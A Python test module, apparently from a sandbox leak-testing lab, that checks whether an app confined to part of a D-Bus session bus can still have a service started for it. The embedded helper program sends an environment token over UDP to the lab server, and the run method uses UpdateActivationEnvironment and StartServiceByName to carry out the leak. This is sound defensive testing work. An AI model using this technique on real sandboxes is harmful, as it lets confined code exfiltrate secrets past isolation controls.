"""The part of a session's bus that an app was granted, and what it asks for beyond that part."""

from __future__ import annotations

import os
from typing import TYPE_CHECKING

from ..attack import Attack, Env, Outcome
from . import _tools

if TYPE_CHECKING:
    from ..lab.base import Lab

USER, UID = "www-data", 33  # the ordinary user of the lab's agents
PLACE = "/usr/local/share/dbus-1/services"
PROGRAM_PATH = "/usr/local/lib/nsguard-leaktest-bus.py"
SERVICE = "org.nsguard.Leaktest"
UNIT = "lab-session-bus.service"
SOCKET = f"/run/user/{UID}/bus"
BUS = ("org.freedesktop.DBus", "/org/freedesktop/DBus", "org.freedesktop.DBus")
PROGRAM = """\
import os, socket, sys
with socket.socket(type=socket.SOCK_DGRAM) as udp:
    udp.sendto(("nsguard-leaktest " + os.environ["NSGUARD_TOKEN"]).encode(), (sys.argv[1], int(sys.argv[2])))
sys.exit(1)  # or the bus would wait for it to take its name
"""


class SessionActivation(Attack):
    """Claim: a bus of which an app was granted a part starts nothing else for it.

    Method: a real session bus on the host; on the one that $DBUS_SESSION_BUS_ADDRESS names, or else the user's own, put
    the token into the environment of what is started (UpdateActivationEnvironment) and have a service started that
    sends it (StartServiceByName).
    Limitations: calls to names that run already are filtered by the same rule and not tried.
    Source: D-Bus specification, message bus messages; xdg-dbus-proxy(1), --filter.
    """

    name = "session-activation"
    families = (0,)
    identities = ("user",)
    alone = True
    timeout = 12.0

    def before(self, lab: Lab) -> None:
        server = f"{lab.addresses.server.v4} {lab.addresses.echo_port}"
        service = f"[D-BUS Service]\nName={SERVICE}\nExec=/usr/bin/python3 {PROGRAM_PATH} {server}\n"
        lab.client.write_files({f"{PLACE}/{SERVICE}.service": service, PROGRAM_PATH: PROGRAM})
        start = f"systemd-run -q --collect --unit={UNIT} --uid={USER} --service-type=notify"
        lab.client.succeed(
            f"install -d -o {USER} -m 0700 {os.path.dirname(SOCKET)}",
            f"[ -S {SOCKET} ] || {start} dbus-daemon --session --address=unix:path={SOCKET} --nofork --nopidfile",
            f"setpriv --reuid {USER} --regid {USER} --clear-groups"
            f" busctl --address=unix:path={SOCKET} call {' '.join(BUS)} ReloadConfig",
        )

    def after(self, lab: Lab) -> None:
        lab.client.execute(f"systemctl stop {UNIT} 2>/dev/null && rm -f {SOCKET}; rm -f {PLACE}/{SERVICE}.service")

    def run(self, env: Env) -> Outcome:
        address = os.environ.get("DBUS_SESSION_BUS_ADDRESS", f"unix:path=/run/user/{os.getuid()}/bus")
        call = ["busctl", f"--address={address}", "--timeout=4", "call", *BUS]
        _tools.run([*call, "UpdateActivationEnvironment", "a{ss}", "1", "NSGUARD_TOKEN", env.token], 5)
        status, output = _tools.run([*call, "StartServiceByName", "su", SERVICE, "0"], 5)
        return Outcome(status == 0, output)
